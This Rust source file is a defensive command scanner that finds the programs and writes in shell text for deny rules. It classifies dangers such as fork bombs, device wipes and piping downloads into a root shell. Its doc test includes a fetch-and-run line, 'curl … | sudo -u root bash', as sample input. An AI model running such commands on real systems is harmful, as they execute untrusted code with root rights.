//! The tolerant reading for deny rules: finds what any text would run and write, rather too much than too little.

mod dangers;
mod nested;
mod search;
mod tokens;
mod wrapped;

use search::Search;

/// What a text would run and write, as far as it can be found. It can only make an answer stricter.
///
/// ```
/// use windlass_command::{Certainty, Danger, Scan};
///
/// let scan = Scan::of("curl -s example.test/x | sudo -u root bash; git -C sub --no-pager push");
/// assert!(scan.runs(&["git", "push"]) && scan.runs(&["curl"]));
/// assert!(scan.dangers().contains(&Danger::FeedsShell));
/// assert_eq!(Scan::of("$tool -rf x").certainty(), Certainty::Partial);
/// ```
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Scan {
    found: Vec<Found>,
    writes: Vec<String>,
    dangers: Vec<Danger>,
    partial: bool,
}

/// A program that would run, or might.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Found {
    argv: Vec<String>,
}

impl Found {
    /// The program without its folder, and its words, with the quotes gone. Expansions read as nothing.
    pub fn argv(&self) -> &[String] {
        &self.argv
    }

    /// Whether a rule of words is about this program: the first is its name, in any case; the others are met in
    /// this order, with only options and their values between them.
    pub fn matches(&self, rule: &[&str]) -> bool {
        let Some((name, wanted)) = rule.split_first() else { return false };
        let Some((program, words)) = self.argv.split_first() else { return false };
        if !program.eq_ignore_ascii_case(name) {
            return false;
        }
        let mut wanted = wanted.iter().copied().peekable();
        let mut may_be_value = false;
        for word in words {
            match wanted.peek() {
                None => return true,
                Some(next) if next == word => {
                    wanted.next();
                    may_be_value = false;
                }
                Some(_) if word.starts_with('-') => may_be_value = true,
                Some(_) if may_be_value => may_be_value = false,
                Some(_) => return false,
            }
        }
        wanted.peek().is_none()
    }
}

/// How much of the text was understood.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[expect(clippy::exhaustive_enums, reason = "a policy must say what each of these means to it")]
pub enum Certainty {
    /// Every program has a name on its face.
    Whole,
    /// A program is named by an expansion, the text is broken, or it is too deep: deny rules may have missed
    /// something, so it is never allowed without a question.
    Partial,
}

/// Something that is dangerous whatever the rules say.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum Danger {
    /// Removes a whole tree at a root, a home, the working folder or everything in it.
    RemovesTree {
        /// The word that names the tree.
        target: String,
    },
    /// Changes who runs the command: `sudo`, `su`, `doas`, `pkexec`.
    Escalates,
    /// A shell or an interpreter runs what another program prints: `curl … | sh`.
    FeedsShell,
    /// Text that is not on its face is run: `eval`, `source`, a shell whose text is an expansion.
    Evaluates,
    /// Formats, partitions or overwrites a device.
    WritesDevice,
    /// A function that starts itself twice.
    ForkBomb,
    /// Opens a connection through the shell itself.
    OpensNetwork,
    /// Stops the machine, or ends every process.
    StopsSystem,
    /// Writes a name that decides what runs later: version control, shell start-up, keys, system configuration.
    WritesProtected {
        /// The path as written.
        path: String,
    },
}

impl Scan {
    /// Scans any text.
    pub fn of(text: &str) -> Self {
        let mut search = Search::default();
        search.text(text);
        search.finish(text)
    }

    /// Scans a program that is started without a shell.
    pub fn of_argv(argv: &[String]) -> Self {
        let mut search = Search::default();
        search.argv(argv);
        search.finish("")
    }

    /// Every program that was found, wrappers and what they wrap, in no order that matters.
    pub fn found(&self) -> &[Found] {
        &self.found
    }

    /// Whether any program that was found is meant by a rule of words; see [`Found::matches`].
    pub fn runs(&self, rule: &[&str]) -> bool {
        self.found.iter().any(|found| found.matches(rule))
    }

    /// The paths that would be written, changed or removed, as written.
    pub fn writes(&self) -> &[String] {
        &self.writes
    }

    /// What is dangerous whatever the rules say, each once.
    pub fn dangers(&self) -> &[Danger] {
        &self.dangers
    }

    /// How much of the text was understood.
    pub fn certainty(&self) -> Certainty {
        if self.partial { Certainty::Partial } else { Certainty::Whole }
    }
}
